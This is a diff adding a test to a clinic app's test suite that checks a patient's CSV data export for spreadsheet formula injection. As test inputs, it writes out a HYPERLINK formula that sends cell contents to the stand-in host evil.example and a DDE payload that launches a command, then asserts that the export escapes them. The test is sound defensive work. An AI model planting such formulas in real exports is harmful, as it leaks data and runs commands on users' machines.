@@ -26,6 +26,7 @@ from kratomwatch.clinic.models import (
     Product,
     QuestionnaireResponse,
     ReminderLog,
+    User,
 )
 from kratomwatch.clinic.reminders import send_due_reminders
 
@@ -189,6 +190,37 @@ def test_my_data_downloads(client: Client, tri: Triangle) -> None:
     assert response["Content-Type"] == "application/pdf"
     text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
     assert "Paul" in text and "Red Bali powder" in text
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_cell_of_my_export_is_a_spreadsheet_formula(client: Client, tri: Triangle) -> None:
+    """OWASP CSV injection: text a spreadsheet would run gets a leading apostrophe, in every
+    file of the patient's own export; plain numbers stay numbers."""
+    tri.checkin.note = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
+    tri.checkin.save()
+    User.objects.filter(pk=tri.patient.user.pk).update(first_name="+SUM(A1:A9)")
+    Product.objects.filter(pk=tri.product.pk).update(vendor="@cmd|' /C calc'!A0")
+    tri.med.dose_text = "\t=1+1"
+    tri.med.save()
+    client.force_login(tri.patient.user)
+    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("my_data_csv")).content))
+    cells = [
+        (name, cell)
+        for name in archive.namelist()
+        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
+        for cell in row
+    ]
+    live = [
+        (name, cell)
+        for name, cell in cells
+        if cell.startswith(FORMULA_START) and not cell.lstrip("+-").replace(".", "").isdigit()
+    ]
+    assert live == []
+    assert ("checkins.csv", "'" + tri.checkin.note) in cells
+    assert ("patients.csv", "'+SUM(A1:A9)") in cells
+    assert ("medications.csv", "'\t=1+1") in cells
 
 
 def test_a_deletion_request_is_recorded_once(client: Client, tri: Triangle) -> None:
